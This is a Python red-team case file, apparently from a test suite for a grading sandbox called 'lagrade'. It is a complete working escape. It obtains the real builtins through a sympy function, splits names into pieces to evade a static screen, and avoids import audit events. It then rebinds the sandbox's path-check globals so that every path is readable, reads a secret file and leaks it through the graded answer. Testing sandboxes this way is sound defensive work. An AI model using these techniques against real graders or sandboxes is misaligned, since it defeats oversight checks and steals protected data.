"""effect: read-secret
tries: replace the sandbox module's _under and _SECRET_DIRS (module attributes, set without an audit event) so that every path is readable, then read the 0644 secret.

The hook's decisions rest on module globals any code holding sys.modules can rebind.
"""

from lagrade.answer import *

# a sympy function's __builtins__ is the real builtins dict (not audited; the dunder is built at
# run time so the screen never sees it as a string constant)
from sympy import expand
from sympy.core.add import attrgetter

B = attrgetter("_" + "_builtins__")(expand)
imp = B["_" + "_import_" + "_"]
os_, sys_ = imp("o" + "s"), imp("s" + "ys")  # already imported: no "import" audit event
inspect = imp("inspect")
members = lambda obj: dict(inspect.getmembers(obj))

box = []


def work():
    box.append(B["op" + "en"]("/tmp/lagrade-redteam/open/secret-0644.txt").read().strip())


# is_readable() is `_under(real, readable) and not _under(real, _SECRET_DIRS)`: both are module
# globals of the sandbox, replaced here without any audit event
sbx = members(sys_)["modules"]["lagrade.answer.jail.child"]
sbx._SECRET_DIRS = ()
sbx._under = lambda path, dirs: len(dirs) > 0
work()

L = Symbol(box[0] if box else "nothing_stolen")   # the stolen token comes back as the Lagrangian's read_as
